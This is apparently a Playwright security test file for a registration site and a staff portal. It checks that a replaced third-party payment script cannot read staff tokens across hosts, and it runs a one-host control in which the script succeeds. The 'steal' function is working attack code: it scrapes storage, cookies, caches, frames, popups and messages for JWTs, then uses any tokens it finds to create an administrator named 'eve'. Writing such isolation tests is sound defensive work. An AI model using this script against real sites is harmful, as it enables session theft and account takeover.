// Site and portal are at two hosts: where the pages of each are, and that a script of the site, such as the payment
// provider's, has no hold of what the portal keeps.
import type { APIRequestContext, BrowserContext, Page } from '@playwright/test';
import { Office, openDoor } from './support/door';
import { Counter, heading, openPortal } from './support/portal';
import { allColleges, fill, newStudent, openForm, registerButton } from './support/registration';
import type { System } from './support/systems';
import { expect, test } from './support/test';

/**
 * What somebody would put in the place of the provider's script: it looks for tokens in every way that a page has, and
 * uses what it finds to make an administrator. It ends with what it has got hold of, as text.
 */
async function steal(portal: string, patienceMs: number): Promise<string> {
  const got: unknown[] = [];
  /** Whatever a way gives, if it gives anything in time. */
  const attempt = async (way: () => unknown) => {
    const late = new Promise((ends) => setTimeout(ends, patienceMs));
    try {
      got.push(await Promise.race([(async () => way())(), late]));
    } catch {
      // Refused.
    }
  };
  const windowOf = (other: Window | null) => () => [
    { ...other?.localStorage },
    { ...other?.sessionStorage },
    other?.document.cookie,
    other?.document.documentElement.outerHTML,
  ];
  const opened = (other: Window | null) => new Promise((shown) => other?.addEventListener('load', shown));
  /** Whoever says anything, in answer or by itself. */
  const heard: unknown[] = [];
  addEventListener('message', ({ data }) => heard.push(data));
  addEventListener('storage', (change) => heard.push({ ...change }, change.newValue));

  await attempt(windowOf(window));
  await attempt(async () => {
    for (const { name = '' } of await indexedDB.databases()) got.push(name);
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) got.push(await (await cache.match(request))?.text());
    }
  });

  const ways: RequestInit[] = [{}, { credentials: 'include' }, { mode: 'no-cors' }];
  for (const path of ['/dashboard', '/login', '/door', '/api/admin/account', '/api/admin/sessions']) {
    for (const host of ['', portal]) {
      for (const way of ways) await attempt(async () => (await fetch(host + path, way)).text());
    }
  }

  const frame = document.createElement('iframe');
  frame.src = `${portal}/dashboard`;
  const framed = new Promise((shown) => frame.addEventListener('load', shown));
  document.body.append(frame);
  await attempt(() => framed);
  await attempt(windowOf(frame.contentWindow));

  const popup = open(`${portal}/dashboard`);
  await attempt(() => opened(popup));
  await attempt(windowOf(popup));
  await attempt(windowOf(opener as Window | null));
  await attempt(() => (document.domain = 'localhost'));
  await attempt(windowOf(popup));
  for (const other of [popup, frame.contentWindow, opener as Window | null]) {
    for (const message of ['token', { type: 'token' }, { type: 'session' }]) {
      await attempt(() => other?.postMessage(message, '*'));
    }
  }
  for (const name of ['token', 'session', 'door', 'auth', 'portal-devices']) {
    await attempt(() => {
      const channel = new BroadcastChannel(name);
      channel.onmessage = ({ data }) => heard.push(data);
      channel.postMessage('token');
    });
  }
  // A worker between the portal's page and its server would see the token of each call.
  for (const [script, scope] of [
    ['/door-worker.js', '/door'],
    ['/door-worker.js', '/dashboard'],
    [`${portal}/door-worker.js`, `${portal}/door`],
    [URL.createObjectURL(new Blob(['onfetch = () => {}'], { type: 'text/javascript' })), '/'],
  ] as const) {
    await attempt(async () => (await navigator.serviceWorker.register(script, { scope })).scope);
  }
  const imported = document.createElement('script');
  imported.src = `${portal}/door-worker.js`;
  document.body.append(imported);
  await attempt(() => new Promise((ends) => (imported.onload = ends)));
  await attempt(() => new Promise(() => undefined));
  got.push(heard);

  const all = JSON.stringify(got);
  for (const token of new Set(all.match(/eyJ[\w-]+\.[\w-]+\.[\w-]+/g))) {
    for (const host of ['', portal]) {
      await attempt(() =>
        fetch(`${host}/api/admin/users`, {
          method: 'POST',
          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
          body: JSON.stringify({ username: 'eve', role: 'admin' }),
        }),
      );
    }
  }
  return all;
}

/** Puts it in the place of the provider's script, for every page of this browser. */
async function replaceProviderScript(
  context: BrowserContext,
  { outsideUrl, portalUrl }: System,
): Promise<void> {
  const call = `globalThis.stolen = (${steal.toString()})(${JSON.stringify(portalUrl)}, 1000);`;
  await context.route(`${outsideUrl}/cashfree.js`, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: call }),
  );
}

/** Somebody in the same browser presses Register Now. */
async function runProviderScript(page: Page): Promise<string> {
  await openForm(page);
  await allColleges.choose(page);
  await fill(page, newStudent());
  await registerButton(page).click();
  await page.waitForFunction(() => 'stolen' in globalThis);
  return page.evaluate(() => (globalThis as unknown as { stolen: Promise<string> }).stolen);
}

const accounts = async (request: APIRequestContext, { siteUrl }: System): Promise<string[]> =>
  (await Counter.open(request, siteUrl)).accounts();

const tokensOf = (page: Page): Promise<string[]> =>
  page.evaluate(() => ['token', 'door-token'].map((key) => localStorage.getItem(key) ?? ''));

/** Signs in to the portal and to the door, and gives both tokens. */
async function signIn(
  page: Page,
  request: APIRequestContext,
  { siteUrl, portalUrl }: System,
): Promise<string[]> {
  const [day] = await (await Office.open(request, siteUrl)).lists();
  await openPortal(page, `${portalUrl}/dashboard`, 'Dashboard');
  await openDoor(page, day?.label ?? '', 'Gate 2', portalUrl);
  const tokens = await tokensOf(page);
  expect(tokens.map((token) => token.split('.').length)).toEqual([3, 3]);
  return tokens;
}

test.describe('with two hosts', () => {
  test.use({ hasOwnSystem: true });

  test('a replaced script of the provider gets no token of staff and makes no administrator', async ({
    context,
    page,
    request,
    system,
    complaints,
  }) => {
    test.slow();
    complaints.expect(/./);
    await replaceProviderScript(context, system);
    const tokens = await signIn(page, request, system);
    // The portal stays open beside the site, and the site is also opened from it.
    const site = await context.newPage();
    const opened = context.waitForEvent('page');
    await page.evaluate((url) => void open(url), `${system.siteUrl}/about-us`);
    for (const visited of [site, await opened]) {
      const stolen = await runProviderScript(visited);
      // It did look: the site's own page is in it.
      expect(stolen).toContain('Register Now');
      for (const token of tokens) expect(stolen).not.toContain(token);
      expect(stolen).not.toMatch(/eyJ[\w-]+\.[\w-]+\.[\w-]+/);
      expect(await tokensOf(visited)).toEqual(['', '']);
    }
    expect(await tokensOf(page)).toEqual(tokens);
    expect(await accounts(request, system)).toEqual(['admin']);
  });
});

test.describe('with one host, as a control', () => {
  test.use({ hasOwnSystem: true, systemVariables: { PORTAL_HOST: 'localhost' } });

  test('a replaced script of the provider gets the tokens, and makes itself an administrator', async ({
    context,
    page,
    request,
    system,
    complaints,
  }) => {
    test.slow();
    complaints.expect(/./);
    expect(system.portalUrl).toBe(system.siteUrl);
    await replaceProviderScript(context, system);
    const tokens = await signIn(page, request, system);
    const stolen = await runProviderScript(await context.newPage());
    for (const token of tokens) expect(stolen).toContain(token);
    expect(await accounts(request, system)).toContain('eve');
  });
});

test('the site leads to the portal, and the portal to the site, with path and query @core', async ({
  page,
  system,
}) => {
  const { siteUrl, portalUrl } = system;
  for (const [opened, arrived] of [
    [`${siteUrl}/login?from=mail`, `${portalUrl}/login?from=mail`],
    [`${siteUrl}/door`, `${portalUrl}/door`],
    [`${portalUrl}/about-us?utm=a&utm=b`, `${siteUrl}/about-us?utm=a&utm=b`],
    [`${portalUrl}/#register`, `${siteUrl}/#register`],
    [`${portalUrl}/contact-us?order_id=1%2F2`, `${siteUrl}/contact-us?order_id=1%2F2`],
  ] as const) {
    await page.goto(opened);
    expect(page.url()).toBe(arrived);
  }
  await openPortal(page, `${siteUrl}/dashboard/customer-list?status=FAILED`, 'Candidate Management');
  expect(page.url()).toBe(`${portalUrl}/dashboard/customer-list?status=FAILED`);
  await expect(heading(page, 'Candidate Management')).toBeVisible();
});
